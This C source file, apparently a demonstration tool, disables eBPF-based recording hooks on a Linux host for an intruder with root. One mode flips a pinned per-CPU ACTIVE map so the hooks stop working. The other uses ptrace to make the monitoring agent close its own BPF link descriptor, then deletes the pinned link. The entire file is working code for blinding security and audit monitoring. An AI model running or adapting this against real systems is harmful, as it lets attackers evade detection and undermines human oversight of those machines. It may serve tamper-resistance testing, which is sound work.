// What an intruder with root can do to the programs that record: switch them off
// through their map, or have a tracer close a link in the agent and remove its name.
//
//     stop_hooks off FOLDER         FOLDER/maps/ACTIVE says that none of them works
//     stop_hooks detach PID LINK    LINK is a name in bpffs, PID the agent
#define _GNU_SOURCE
#include <dirent.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static void must(int done, const char *what)
{
	if (!done) {
		perror(what);
		exit(1);
	}
}

static int pinned(const char *path)
{
	union bpf_attr attr = {.pathname = (unsigned long)path};
	int fd = syscall(SYS_bpf, BPF_OBJ_GET, &attr, sizeof attr);

	must(fd >= 0, path);
	return fd;
}

static void switch_off(const char *folder)
{
	char path[512];
	unsigned long generation = 1;
	unsigned int cpus = sysconf(_SC_NPROCESSORS_CONF), cpu;

	snprintf(path, sizeof path, "%s/maps/ACTIVE", folder);
	union bpf_attr attr = {.map_fd = pinned(path)};
	attr.key = (unsigned long)&cpu;
	attr.value = (unsigned long)&generation;
	for (cpu = 0; cpu < cpus; cpu++)
		must(syscall(SYS_bpf, BPF_MAP_UPDATE_ELEM, &attr, sizeof attr) == 0, "update");
}

// The number of the link behind a descriptor; 0 where it is none.
static unsigned int link_id(const char *pid, const char *fd)
{
	char path[512], line[256];
	unsigned int id = 0;

	snprintf(path, sizeof path, "/proc/%s/fdinfo/%s", pid, fd);
	FILE *about = fopen(path, "r");
	while (about && fgets(line, sizeof line, about))
		sscanf(line, "link_id: %u", &id);
	if (about)
		fclose(about);
	return id;
}

// Has a process close a descriptor, by its own system call.
static void close_in(int pid, int fd)
{
	struct user_regs_struct before, now;
	int status;

	must(ptrace(PTRACE_SEIZE, pid, 0, 0) == 0, "seize");
	must(ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0, "interrupt");
	must(waitpid(pid, &status, __WALL) == pid, "wait");
	must(ptrace(PTRACE_GETREGS, pid, 0, &before) == 0, "registers");
	now = before;
	// It waits in a system call: the instruction before is one.
	now.rip -= 2;
	now.rax = SYS_close;
	now.rdi = fd;
	now.orig_rax = -1;
	must(ptrace(PTRACE_SETREGS, pid, 0, &now) == 0, "registers");
	must(ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0, "step");
	must(waitpid(pid, &status, __WALL) == pid, "wait");
	must(ptrace(PTRACE_GETREGS, pid, 0, &now) == 0, "registers");
	must(now.rax == 0, "close");
	must(ptrace(PTRACE_SETREGS, pid, 0, &before) == 0, "registers");
	must(ptrace(PTRACE_DETACH, pid, 0, 0) == 0, "detach");
}

static void detach(const char *pid, const char *path)
{
	char own[16], folder[64];
	int fd = pinned(path), closed = 0;
	struct dirent *entry;

	snprintf(own, sizeof own, "%d", fd);
	unsigned int id = link_id("self", own);
	must(id > 0, "link_id");
	snprintf(folder, sizeof folder, "/proc/%s/fd", pid);
	DIR *all = opendir(folder);
	must(all != NULL, folder);
	while ((entry = readdir(all)))
		if (link_id(pid, entry->d_name) == id) {
			close_in(atoi(pid), atoi(entry->d_name));
			closed++;
		}
	must(closed > 0, "the agent's descriptor");
	must(unlink(path) == 0, "unlink");
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "off"))
		switch_off(argv[2]);
	else if (argc == 4 && !strcmp(argv[1], "detach"))
		detach(argv[2], argv[3]);
	else
		return 2;
	return 0;
}
